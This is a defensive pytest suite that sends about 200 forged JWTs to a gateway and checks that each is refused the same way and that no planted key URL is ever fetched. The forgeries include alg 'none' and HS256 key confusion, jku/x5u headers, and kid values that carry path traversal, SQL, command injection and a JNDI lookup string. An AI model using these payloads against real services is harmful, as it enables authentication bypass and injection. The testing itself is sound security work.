"""Tokens made by hand to get in: each is refused with the same bytes, and nobody is called for a key.

Unless an attack is about the signature, the token is signed by the stack's own key, so that it is
refused for the one thing that is wrong with it.
"""

import base64
import datetime
import hashlib
import hmac
import json
import socket
import time
import zlib
from urllib.parse import urlsplit

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import padding
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from cryptography.x509.oid import NameOID

import mint
import rawhttp
from flows import JOBS
from shapes import assert_gateway
from tokens import Forge, b64, changed, unb64

SPKI = (Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)


class Attacker(Forge):
    """The stack's own key and real claims, a stranger's keys, and an address that must stay silent."""

    def __init__(self, stack, real, listener):
        super().__init__(stack, real)
        self.url = listener.url
        self.stranger_ec = mint.new_es256()
        self.stranger_ed = mint.new_eddsa()

    def live(self):
        """The claims of a token that is good now."""
        now = int(time.time())
        return {**self.claims, "iat": now, "exp": now + 600}

    def claim(self, **changes):
        return self.token(claims=changes)

    def without(self, name):
        return self.token(claims={name: None})

    def header(self, **changes):
        return self.token(head=changes)

    def texts(self, head=None, claims=None):
        """Header and payload as texts or bytes, signed by the real key."""
        return mint.token(self.head if head is None else head,
                          self.live() if claims is None else claims, self.key)

    def claims_text(self, before="", after=""):
        """The good claims with more members in the text, before and after."""
        return "{" + before + json.dumps(self.live())[1:-1] + after + "}"

    def head_text(self, before="", after=""):
        return "{" + before + json.dumps(self.head)[1:-1] + after + "}"

    def value(self, name, text):
        """The good claims with one value as this text."""
        members = changed(self.live(), {name: None})
        return self.texts(claims="{" + json.dumps(members)[1:-1] + f',"{name}":{text}' + "}")

    def by(self, key, **head):
        """Good claims under a header with these changes, signed by that key."""
        return mint.token(changed(self.head, head), self.live(), key)

    def hmac(self, secret, algorithm="HS256", digest=hashlib.sha256, **head):
        text = f"{mint.part(changed(self.head, {'alg': algorithm, **head}))}.{mint.part(self.live())}"
        return f"{text}.{b64(hmac.new(secret, text.encode(), digest).digest())}"

    def public(self, encoding, form):
        return self.key.public_key().public_bytes(encoding, form)

    def unsigned_as(self, algorithm, signature=""):
        return f"{mint.part(changed(self.head, {'alg': algorithm}))}.{mint.part(self.live())}.{signature}"

    def parts(self):
        return self.token().split(".")

    def signed_as(self, algorithm, scheme, digest):
        text = f"{mint.part({**self.head, 'alg': algorithm})}.{mint.part(self.live())}"
        return f"{text}.{b64(self.key.sign(text.encode(), scheme, digest))}"

    def with_signature(self, signature, **head):
        return f"{mint.part({**self.head, **head})}.{mint.part(self.live())}.{signature}"

    def certificate(self):
        """A certificate that the stranger made for itself."""
        name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "consign")])
        now = datetime.datetime.now(datetime.timezone.utc)
        made = (x509.CertificateBuilder().subject_name(name).issuer_name(name)
                .public_key(self.stranger.public_key()).serial_number(1)
                .not_valid_before(now).not_valid_after(now + datetime.timedelta(days=1))
                .sign(self.stranger, hashes.SHA256()))
        return made.public_bytes(Encoding.DER)


def loosened(text):
    """The text with an unused bit of its last digit set: the same bytes to a lenient decoder."""
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    assert len(text.rpartition(".")[2]) % 4 != 0
    return text[:-1] + alphabet[alphabet.index(text[-1]) + 1]


def unpadded(attacker):
    """A payload whose base64url has unused bits."""
    claims = json.dumps(attacker.live())
    return claims if len(claims) % 3 else claims + " "


ATTACKS = {
    # the algorithm
    "none": lambda a: a.unsigned_as("none"),
    "none, as None": lambda a: a.unsigned_as("None"),
    "none, as NONE": lambda a: a.unsigned_as("NONE"),
    "none, as nOnE": lambda a: a.unsigned_as("nOnE"),
    "none with some signature": lambda a: a.unsigned_as("none", "AAAA"),
    "none with the right signature": lambda a: a.header(alg="none"),
    "none without a second dot": lambda a: a.unsigned_as("none").rstrip("."),
    "no alg": lambda a: a.token(head={"alg": None}),
    "alg null": lambda a: a.texts(head=changed(a.head, {"alg": None}) | {"alg": None}),
    "alg empty": lambda a: a.header(alg=""),
    "alg array": lambda a: a.header(alg=["RS256"]),
    "alg in small letters": lambda a: a.header(alg="rs256"),
    "alg with a blank": lambda a: a.header(alg="RS256 "),
    "alg with NUL": lambda a: a.header(alg="RS256\0"),
    "HS256 with the public key as PEM": lambda a: a.hmac(a.public(*SPKI)),
    "HS256 with the PEM without line feed": lambda a: a.hmac(a.public(*SPKI).rstrip(b"\n")),
    "HS256 with the public key as PKCS1 PEM": lambda a: a.hmac(a.public(Encoding.PEM, PublicFormat.PKCS1)),
    "HS256 with the public key as DER": lambda a: a.hmac(a.public(Encoding.DER, PublicFormat.SubjectPublicKeyInfo)),
    "HS256 with the JWK": lambda a: a.hmac(json.dumps(mint.jwk(a.key)).encode()),
    "HS256 with the modulus": lambda a: a.hmac(unb64(mint.jwk(a.key)["n"])),
    "HS256 with the kid": lambda a: a.hmac(a.head["kid"].encode()),
    "HS256 with nothing": lambda a: a.hmac(b""),
    "HS384 with the PEM": lambda a: a.hmac(a.public(*SPKI), "HS384", hashlib.sha384),
    "HS512 with the PEM": lambda a: a.hmac(a.public(*SPKI), "HS512", hashlib.sha512),
    "HMAC under RS256": lambda a: a.hmac(a.public(*SPKI), "RS256"),
    "PS256 by the right key": lambda a: a.signed_as(
        "PS256", padding.PSS(padding.MGF1(hashes.SHA256()), 32), hashes.SHA256()),
    "PSS under RS256": lambda a: a.signed_as(
        "RS256", padding.PSS(padding.MGF1(hashes.SHA256()), 32), hashes.SHA256()),
    "RS384 by the right key": lambda a: a.signed_as("RS384", padding.PKCS1v15(), hashes.SHA384()),
    "RS512 by the right key": lambda a: a.signed_as("RS512", padding.PKCS1v15(), hashes.SHA512()),
    "SHA-512 under RS256": lambda a: a.signed_as("RS256", padding.PKCS1v15(), hashes.SHA512()),
    "SHA-1 under RS256": lambda a: a.signed_as("RS256", padding.PKCS1v15(), hashes.SHA1()),
    "ES256 under the RSA key's id": lambda a: a.by(a.stranger_ec, alg="ES256"),
    "EdDSA under the RSA key's id": lambda a: a.by(a.stranger_ed, alg="EdDSA"),
    # keys and addresses in the header
    "jwk of the signer": lambda a: a.by(a.stranger, jwk=mint.jwk(a.stranger)),
    "jwk with its own kid": lambda a: a.by(a.stranger, kid="mine", jwk=mint.jwk(a.stranger, kid="mine")),
    "jwk without kid": lambda a: a.by(a.stranger, kid=None, jwk=mint.jwk(a.stranger)),
    "jwk of another kind": lambda a: a.by(a.stranger_ec, alg="ES256", jwk=mint.jwk(a.stranger_ec)),
    "jwk that is a secret": lambda a: a.by(b"secret", alg="HS256", jwk={"kty": "oct", "k": b64(b"secret")}),
    "jwks": lambda a: a.by(a.stranger, jwks={"keys": [mint.jwk(a.stranger, kid=a.head["kid"])]}),
    "jku": lambda a: a.by(a.stranger, jku=f"{a.url}/jwks"),
    "jku with its own kid": lambda a: a.by(a.stranger, kid="mine", jku=f"{a.url}/jwks"),
    "jku without kid": lambda a: a.by(a.stranger, kid=None, jku=f"{a.url}/jwks"),
    "jku with our host as user": lambda a: a.by(a.stranger, jku=a.url.replace("//", "//consign@")),
    "x5u": lambda a: a.by(a.stranger, x5u=f"{a.url}/cert.pem"),
    "x5u without kid": lambda a: a.by(a.stranger, kid=None, x5u=f"{a.url}/cert.pem"),
    "x5c of the signer": lambda a: a.by(a.stranger, x5c=[
        base64.b64encode(a.certificate()).decode()]),
    "x5t of the signer": lambda a: a.by(a.stranger, kid=None, x5t=b64(hashlib.sha1(a.certificate()).digest())),
    "all of them": lambda a: a.by(a.stranger, kid="mine", jwk=mint.jwk(a.stranger), jku=a.url, x5u=a.url),
    "iss that can be asked": lambda a: mint.token(
        {**a.head, "kid": "mine"}, {**a.live(), "iss": a.url}, a.stranger),
    # the key's id
    "no kid": lambda a: a.token(head={"kid": None}),
    "kid empty": lambda a: a.header(kid=""),
    "kid number": lambda a: a.header(kid=1),
    "kid array": lambda a: a.header(kid=[a.head["kid"]]),
    "kid object": lambda a: a.header(kid={"kid": a.head["kid"]}),
    "kid null": lambda a: a.texts(head={**a.head, "kid": None}),
    "kid of nobody": lambda a: a.header(kid="nobody"),
    "kid with more": lambda a: a.header(kid=a.head["kid"] + "A"),
    "kid cut": lambda a: a.header(kid=a.head["kid"][:-1]),
    "kid with a blank": lambda a: a.header(kid=a.head["kid"] + " "),
    "kid with NUL": lambda a: a.header(kid=a.head["kid"] + "\0x"),
    "kid in capitals": lambda a: a.header(kid=a.head["kid"].swapcase()),
    "kid as path to nothing": lambda a: a.hmac(b"", kid="../../../../../../dev/null"),
    "kid as absolute path": lambda a: a.hmac(b"", kid="/dev/null"),
    "kid as path to the key": lambda a: a.header(kid="ims-signing.pem"),
    "kid as path to a known file": lambda a: a.hmac(b"2\n", kid="/proc/sys/kernel/randomize_va_space"),
    "kid as SQL": lambda a: a.hmac(b"secret", kid="x' UNION SELECT 'secret' --"),
    "kid as SQL that is true": lambda a: a.header(kid="' OR 1=1 --"),
    "kid as command": lambda a: a.header(kid="| id"),
    "kid as address": lambda a: a.by(a.stranger, kid=f"{a.url}/key"),
    "kid as template": lambda a: a.header(kid="${jndi:ldap:" + a.url[5:] + "/a}"),
    "kid of 4 KiB": lambda a: a.header(kid="k" * 4096),
    # extensions
    "crit empty": lambda a: a.header(crit=[]),
    "crit of exp": lambda a: a.header(crit=["exp"]),
    "crit of something": lambda a: a.header(crit=["x"], x=1),
    "crit as text": lambda a: a.header(crit="exp"),
    "crit null": lambda a: a.texts(head={**a.head, "crit": None}),
    "b64 false": lambda a: a.header(b64=False),
    "b64 false, announced": lambda a: a.header(b64=False, crit=["b64"]),
    "b64 true": lambda a: a.header(b64=True),
    "zip": lambda a: a.texts(claims=zlib.compress(json.dumps(a.live()).encode())),
    # the signature
    "signature empty": lambda a: a.with_signature(""),
    "signature missing": lambda a: ".".join(a.parts()[:2]),
    "signature of a stranger": lambda a: a.by(a.stranger),
    "signature of zeros": lambda a: a.with_signature(b64(bytes(256))),
    "signature of ones": lambda a: a.with_signature(b64(b"\xff" * 256)),
    "signature one": lambda a: a.with_signature(b64(bytes(255) + b"\1")),
    "signature cut": lambda a: a.token()[:-4],
    "signature with a byte more": lambda a: ".".join(a.parts()[:2] + [b64(unb64(a.parts()[2]) + b"\0")]),
    "signature with a zero before": lambda a: (lambda p: f"{p[0]}.{p[1]}.{b64(bytes(1) + unb64(p[2]))}")(a.parts()),
    "signature of another token": lambda a: ".".join(a.parts()[:2] + [a.claim(jti="other").split(".")[2]]),
    "signature in hex": lambda a: (lambda p: f"{p[0]}.{p[1]}.{unb64(p[2]).hex()}")(a.parts()),
    "signature padded": lambda a: a.token() + "==",
    "signature with an unused bit": lambda a: loosened(a.token()),
    "signature with another digit": lambda a: (lambda t: t[:-20] + ("A" if t[-20] != "A" else "B") + t[-19:])(a.token()),
    "ES256 r = s = 0": lambda a: a.with_signature(b64(bytes(64)), alg="ES256"),
    "ES256 of 63 bytes": lambda a: a.with_signature(b64(bytes(63)), alg="ES256"),
    "ES256 of 65 bytes": lambda a: a.with_signature(b64(bytes(65)), alg="ES256"),
    "EdDSA of zeros": lambda a: a.with_signature(b64(bytes(64)), alg="EdDSA"),
    # the form
    "one part": lambda a: a.parts()[0],
    "four parts": lambda a: a.token() + ".AAAA",
    "five parts, as encrypted": lambda a: a.token() + ".AAAA.AAAA",
    "a dot before": lambda a: "." + a.token(),
    "a dot behind": lambda a: a.token() + ".",
    "two dots between": lambda a: a.token().replace(".", "..", 1),
    "dots only": lambda a: "..",
    "no header": lambda a: "." + ".".join(a.parts()[1:]),
    "no payload": lambda a: (lambda p: f"{p[0]}..{p[2]}")(a.parts()),
    "header and payload exchanged": lambda a: (lambda p: f"{p[1]}.{p[0]}.{p[2]}")(a.parts()),
    "a blank inside": lambda a: a.token().replace(".", " .", 1),
    "a blank in the signature": lambda a: a.token()[:-9] + " " + a.token()[-9:],
    "header padded": lambda a: a.token().replace(".", "=.", 1),
    "payload with an unused bit": lambda a: (
        lambda head, claims: (lambda text: f"{text}.{b64(mint.sign(a.key, text))}")(f"{head}.{loosened(claims)}"))(
            mint.part(a.head), mint.part(unpadded(a))),
    "the other alphabet": lambda a: a.token()[:-3] + "+/+",
    "in quotes": lambda a: f'"{a.token()}"',
    "dots escaped": lambda a: a.token().replace(".", "%2E"),
    "the scheme twice": lambda a: "Bearer " + a.token(),
    "as JSON": lambda a: (lambda p: json.dumps(
        {"protected": p[0], "payload": p[1], "signature": p[2]}, separators=(";", ":")))(a.parts()),
    "a token in a token": lambda a: a.texts(head={**a.head, "cty": "JWT"}, claims=a.token()),
    "a token as a claim": lambda a: mint.token(a.head, {"token": a.token()}, a.key),
    "header encoded twice": lambda a: mint.token(mint.part(a.head), a.live(), a.key),
    # the JSON
    "alg twice": lambda a: a.texts(head=a.head_text(before='"alg":"none",')),
    "alg twice, one escaped": lambda a: a.texts(head=a.head_text(after=',"\\u0061lg":"none"')),
    "kid twice": lambda a: a.texts(head=a.head_text(after=',"kid":"x"')),
    "typ twice": lambda a: a.texts(head=a.head_text(after=',"typ":"at+jwt"')),
    "client_id twice": lambda a: a.duplicate_claim(),
    "client_id twice, the same": lambda a: a.texts(claims=a.claims_text(
        after=f',"client_id":{json.dumps(a.claims["client_id"])}')),
    "exp twice": lambda a: a.texts(claims=a.claims_text(before='"exp":1,')),
    "exp twice, one escaped": lambda a: a.texts(claims=a.claims_text(after=',"\\u0065xp":9999999999')),
    "twice deep inside": lambda a: a.texts(claims=a.claims_text(after=',"x":[{"a":1,"a":1}]')),
    "BOM before the header": lambda a: a.texts(head=b"\xef\xbb\xbf" + json.dumps(a.head).encode()),
    "BOM before the payload": lambda a: a.texts(claims=b"\xef\xbb\xbf" + json.dumps(a.live()).encode()),
    "UTF-16 payload": lambda a: a.texts(claims=json.dumps(a.live()).encode("utf-16")),
    "lone surrogate": lambda a: a.texts(claims=a.claims_text(after=',"x":"\\ud800"')),
    "lone surrogate in the header": lambda a: a.texts(head=a.head_text(after=',"x":"\\udc00"')),
    "bad UTF-8": lambda a: a.texts(claims=a.claims_text(after=',"x":"?"').encode().replace(b"?", b"\xff")),
    "overlong UTF-8": lambda a: a.texts(claims=a.claims_text(after=',"x":"?"').encode().replace(b"?", b"\xc0\xaf")),
    "control character": lambda a: a.texts(claims=a.claims_text(after=',"x":"\x01"')),
    "deep nesting": lambda a: a.texts(claims=a.claims_text(after=',"x":' + "[" * 17 + "]" * 17)),
    "very deep nesting": lambda a: a.texts(claims="[" * 2500 + "]" * 2500),
    "deep nesting in the header": lambda a: a.texts(head=a.head_text(after=',"x":' + '{"a":' * 20 + "1" + "}" * 20)),
    "comma at the end": lambda a: a.texts(claims=a.claims_text(after=",")),
    "comment": lambda a: a.texts(claims=a.claims_text(after="/**/")),
    "single quotes": lambda a: a.texts(claims=str(a.live())),
    "NaN": lambda a: a.texts(claims=a.claims_text(after=',"x":NaN')),
    "bytes behind the payload": lambda a: a.texts(claims=a.claims_text() + "x"),
    "a second payload": lambda a: a.texts(claims=a.claims_text() * 2),
    "half a payload": lambda a: a.texts(claims=a.claims_text()[:-1]),
    "payload is an array": lambda a: a.texts(claims=[a.live()]),
    "payload is a text": lambda a: a.texts(claims=json.dumps("x")),
    "payload is null": lambda a: a.texts(claims="null"),
    "payload is empty": lambda a: a.texts(claims="{}"),
    "header is an array": lambda a: a.texts(head=[a.head]),
    "header is empty": lambda a: a.texts(head="{}"),
    "header is no JSON": lambda a: a.texts(head="RS256"),
    # until when
    "no exp": lambda a: a.without("exp"),
    "exp null": lambda a: a.value("exp", "null"),
    "exp 2^63": lambda a: a.value("exp", "9223372036854775808"),
    "exp 2^63 - 1": lambda a: a.value("exp", "9223372036854775807"),
    "exp 2^64 + 1 day": lambda a: a.value("exp", str(2 ** 64 + int(time.time()) + 86400)),
    "exp 2^53": lambda a: a.value("exp", "9007199254740992"),
    "exp of 400 digits": lambda a: a.value("exp", "9" * 400),
    "exp 1e400": lambda a: a.value("exp", "1e400"),
    "exp 9e9": lambda a: a.value("exp", "9e9"),
    "exp float": lambda a: a.value("exp", f"{int(time.time()) + 600}.5"),
    "exp float that is whole": lambda a: a.value("exp", f"{int(time.time()) + 600}.0"),
    "exp text": lambda a: a.value("exp", f'"{int(time.time()) + 600}"'),
    "exp negative": lambda a: a.claim(exp=-1),
    "exp negative as can be": lambda a: a.value("exp", "-9007199254740991"),
    "exp zero": lambda a: a.claim(exp=0),
    "exp with a leading zero": lambda a: a.value("exp", f"0{int(time.time()) + 600}"),
    "exp with a plus": lambda a: a.value("exp", f"+{int(time.time()) + 600}"),
    "exp hexadecimal": lambda a: a.value("exp", "0x7fffffff"),
    "exp array": lambda a: a.claim(exp=[int(time.time()) + 600]),
    "exp true": lambda a: a.claim(exp=True),
    "expired": lambda a: a.expired(),
    "expired just now": lambda a: a.claim(exp=int(time.time()) - 31),
    "not before tomorrow": lambda a: a.claim(nbf=int(time.time()) + 86400),
    "not before text": lambda a: a.claim(nbf="0"),
    "issued tomorrow": lambda a: a.claim(iat=int(time.time()) + 86400),
    "issued text": lambda a: a.claim(iat="0"),
    "times of the other profile": lambda a: a.token(claims={
        "exp": None, "created_at": str(int(time.time()) * 1000), "expires_in": "86400000"}),
    # whose and for whom
    "no iss": lambda a: a.without("iss"),
    "another iss": lambda a: a.claim(iss="https://evil.example"),
    "iss with more": lambda a: a.claim(iss=a.claims["iss"] + "/"),
    "iss as array": lambda a: a.claim(iss=[a.claims["iss"]]),
    "iss in capitals": lambda a: a.claim(iss=a.claims["iss"].upper()),
    "iss as as": lambda a: a.token(claims={"iss": None, "as": a.claims["iss"], "type": "access_token"}),
    "no aud": lambda a: a.without("aud"),
    "another aud": lambda a: a.claim(aud="other"),
    "aud without us": lambda a: a.claim(aud=["other", "another"]),
    "aud empty": lambda a: a.claim(aud=[]),
    "aud within an array": lambda a: a.claim(aud=[[a.claims["aud"]]]),
    "aud object": lambda a: a.claim(aud={a.claims["aud"]: a.claims["aud"]}),
    "ID token": lambda a: a.token(head={"typ": "JWT"}, claims={
        "aud": a.claims["client_id"], "nonce": "n", "at_hash": "h", "auth_time": 1}),
    "ID token with our audience": lambda a: a.token(head={"typ": "JWT"}, claims={"nonce": "n"}),
    "no typ": lambda a: a.token(head={"typ": None}),
    "typ null": lambda a: a.texts(head={**a.head, "typ": None}),
    "typ of a logout token": lambda a: a.header(typ="logout+jwt"),
    "typ of a proof": lambda a: a.header(typ="dpop+jwt"),
    "typ array": lambda a: a.header(typ=["at+jwt"]),
    # who
    "no client_id": lambda a: a.without("client_id"),
    "client_id empty": lambda a: a.claim(client_id=""),
    "client_id number": lambda a: a.claim(client_id=1),
    "client_id array": lambda a: a.claim(client_id=[a.claims["client_id"]]),
    "client_id too long": lambda a: a.claim(client_id="c" * 129),
    "client_id with NUL": lambda a: a.claim(client_id=a.claims["client_id"] + "\0"),
    "client_id in the header": lambda a: a.token(head={"client_id": a.claims["client_id"]}, claims={"client_id": None}),
    "another org": lambda a: a.claim(org="Other@AdobeOrg"),
    "org number": lambda a: a.claim(org=1),
    "org too long": lambda a: a.claim(org="o" * 81),
    "scope array": lambda a: a.claim(scope=["export:read"]),
    "scope null": lambda a: a.value("scope", "null"),
}


@pytest.fixture(scope="module")
def listener():
    made = mint.Listener()
    yield made
    made.close()


@pytest.fixture(scope="module")
def attacker(stack, shared, listener):
    return Attacker(stack, shared.token, listener)


def present(client, text):
    """One call with that token; every other header is right."""
    headers = [(name, value) for name, value in client.headers().items() if name != "Authorization"]
    return rawhttp.send(client.url, "GET", JOBS, [("Authorization", f"Bearer {text}"), *headers])


def shown(answer):
    """What a client sees of an answer, but the date and the request's id."""
    return (answer.status_code, answer.content, answer.headers.get("WWW-Authenticate"),
            sorted(set(answer.headers) - {"date"}))


@pytest.fixture(scope="module")
def refusal(shared):
    answer = present(shared, "nonsense")
    assert_gateway(answer, "401013")
    return shown(answer)


def test_there_are_many(attacker):
    assert len(ATTACKS) >= 60
    assert len({make(attacker) for make in ATTACKS.values()}) == len(ATTACKS)


def test_what_the_attacks_vary_is_accepted(attacker, shared):
    good = [attacker.token(), attacker.texts(), attacker.texts(claims=attacker.claims_text()),
            attacker.texts(head=attacker.head_text()), attacker.value("exp", str(int(time.time()) + 600)),
            attacker.by(attacker.key), attacker.texts(claims=unpadded(attacker)),
            attacker.claim(org=shared.org), attacker.claim(scope="openid")]
    for text in good:
        assert present(shared, text).status_code == 200, text


@pytest.mark.parametrize("name", ATTACKS)
def test_attack(attacker, shared, refusal, name):
    assert shown(present(shared, ATTACKS[name](attacker))) == refusal


def test_8_kib_and_a_byte(attacker, shared, refusal):
    """The longest token that is taken, and what comes after it (contract section 2)."""
    head, _, signature = attacker.parts()
    room = (8192 - len(head) - len(signature) - 2) * 3 // 4
    longest = attacker.texts(claims=attacker.claims_text().ljust(room))
    assert 8190 <= len(longest) <= 8192
    assert present(shared, longest).status_code == 200
    assert present(shared, longest.ljust(8193, "A")).status_code == 400
    assert present(shared, longest.ljust(8300, "A")).status_code == 400
    assert present(shared, longest.ljust(20000, "A")).status_code == 431  # nginx: no header is that long


def test_addresses_in_a_good_token_are_not_called(attacker, shared, listener):
    """The header of a good token may hold anything; it is looked at by nobody."""
    for member in ("jku", "x5u", "jwk", "x5c", "jwks_uri"):
        assert present(shared, attacker.header(**{member: f"{listener.url}/x"})).status_code == 200


def test_nobody_was_called(attacker, shared, refusal, listener):
    """Runs every attack that names an address once more, so that it also holds when run alone."""
    calling = [make(attacker) for make in ATTACKS.values()]
    calling = [text for text in calling if any(
        listener.url.encode() in unb64(piece) for piece in text.split(".")[:2] if is_base64(piece))]
    assert len(calling) >= 8
    for text in calling:
        assert shown(present(shared, text)) == refusal
    assert listener.connections == 0
    where = urlsplit(listener.url)
    with socket.create_connection((where.hostname, where.port), 5) as link:  # and it does count
        assert link.recv(1) == b""
    assert listener.connections == 1


def is_base64(text):
    return bool(text) and set(text) <= set("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_")
